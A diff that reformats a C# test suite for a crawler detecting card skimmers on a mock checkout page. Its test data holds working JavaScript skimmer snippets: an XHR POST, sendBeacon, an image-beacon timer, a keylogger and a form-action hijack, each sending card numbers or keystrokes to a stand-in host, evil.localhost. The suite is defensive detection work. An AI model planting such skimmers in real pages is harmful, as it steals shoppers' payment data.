@@ -20,7 +20,8 @@ public sealed class CanaryTests(ChromiumFixture chromium) : IAsyncLifetime
 
     private async Task<Capture> CrawlAsync(string skimmer, string html = Checkout)
     {
-        _site.Html("shop.localhost/checkout", html).Script("cdn.localhost/tag.js", skimmer.Replace("EVIL", $"http://evil.localhost:{_site.Port}", StringComparison.Ordinal));
+        _site.Html("shop.localhost/checkout", html)
+            .Script("cdn.localhost/tag.js", skimmer.Replace("EVIL", $"http://evil.localhost:{_site.Port}", StringComparison.Ordinal));
         var capture = await chromium.Crawler.CrawlOneAsync(_site.Plan(["shop.localhost/checkout"], "cdn.localhost", "evil.localhost"));
         foreach (var finding in capture.Findings) TestContext.Current.TestOutputHelper?.WriteLine(finding.ToString());
         TestContext.Current.TestOutputHelper?.WriteLine(capture.Describe());
@@ -28,19 +29,23 @@ public sealed class CanaryTests(ChromiumFixture chromium) : IAsyncLifetime
     }
 
     /// <summary>The shop's server has seen the page and its code, and no order.</summary>
-    private void AssertNoOrder() => Assert.DoesNotContain(_site.Log, static entry => entry.Target.StartsWith("shop.localhost/order", StringComparison.Ordinal));
+    private void AssertNoOrder() =>
+        Assert.DoesNotContain(_site.Log, static entry => entry.Target.StartsWith("shop.localhost/order", StringComparison.Ordinal));
 
     [Theory]
     [InlineData("xhr", "addEventListener('submit', () => { const x = new XMLHttpRequest(); x.open('POST', 'EVIL/c'); x.send(btoa(document.forms[0].cardnumber.value)); }, true)")]
     [InlineData("beacon", "document.querySelector('button').addEventListener('click', () => navigator.sendBeacon('EVIL/c', [...document.forms[0].cardnumber.value].reverse().join('')))")]
-    [InlineData("timer", "setInterval(() => { const v = document.forms[0].cardnumber.value; if (v.length > 15) new Image().src = 'EVIL/t?' + v; }, 300)")]
+    [InlineData("timer",
+        "setInterval(() => { const v = document.forms[0].cardnumber.value; if (v.length > 15) new Image().src = 'EVIL/t?' + v; }, 300)")]
     [InlineData("keys", "let k = ''; addEventListener('keydown', e => { k += e.key; }, true); addEventListener('submit', () => navigator.sendBeacon('EVIL/k', k), true)")]
     public async Task A_card_number_that_leaves_is_a_finding_with_its_script(string channel, string skimmer)
     {
         var capture = await CrawlAsync(skimmer);
 
         var tag = Assert.Single(capture.Scripts, static script => script.Url.EndsWith("/tag.js", StringComparison.Ordinal));
-        var finding = Assert.Single(capture.Findings, static finding => finding.Rule == "canary-exfiltration" && finding.Evidence.Contains("cc-number", StringComparison.Ordinal));
+        var finding =
+            Assert.Single(capture.Findings,
+            static finding => finding.Rule == "canary-exfiltration" && finding.Evidence.Contains("cc-number", StringComparison.Ordinal));
         Assert.Equal(Severity.Critical, finding.Severity);
         Assert.Contains("evil.localhost", finding.Title, StringComparison.Ordinal);
         Assert.True(finding.Script == tag.Id, channel);
@@ -164,8 +169,11 @@ public sealed class CanaryTests(ChromiumFixture chromium) : IAsyncLifetime
         var capture = await CrawlAsync("document.forms[0].action = 'EVIL/steal';");
 
         Assert.Contains(capture.Findings, static finding => finding.Rule == "form-action-changed");
-        Assert.Contains(capture.Findings, static finding => finding.Rule == "canary-exfiltration" && finding.Title.Contains("evil.localhost", StringComparison.Ordinal));
-        Assert.Contains(capture.Connections, connection => connection is { Type: ConnectionType.Form, Host: "evil.localhost" } && connection.Initiator == _site.Url("shop.localhost/checkout"));
+        Assert.Contains(capture.Findings,
+            static finding => finding.Rule == "canary-exfiltration" && finding.Title.Contains("evil.localhost", StringComparison.Ordinal));
+        Assert.Contains(capture.Connections,
+            connection =>
+            connection is { Type: ConnectionType.Form, Host: "evil.localhost" } && connection.Initiator == _site.Url("shop.localhost/checkout"));
         Assert.DoesNotContain(_site.Log, static entry => entry.Target.StartsWith("evil.localhost/steal", StringComparison.Ordinal));
     }
 
@@ -187,7 +195,9 @@ public sealed class CanaryTests(ChromiumFixture chromium) : IAsyncLifetime
     [Fact]
     public async Task A_page_without_such_fields_is_left_alone()
     {
-        var capture = await CrawlAsync("addEventListener('input', () => fetch('EVIL/typed'))", "<form><input name=q></form><script src='http://cdn.localhost:PORT/tag.js'></script>");
+        var capture =
+            await CrawlAsync("addEventListener('input', () => fetch('EVIL/typed'))",
+            "<form><input name=q></form><script src='http://cdn.localhost:PORT/tag.js'></script>");
 
         Assert.DoesNotContain(capture.Connections, static connection => connection.Host == "evil.localhost");
     }
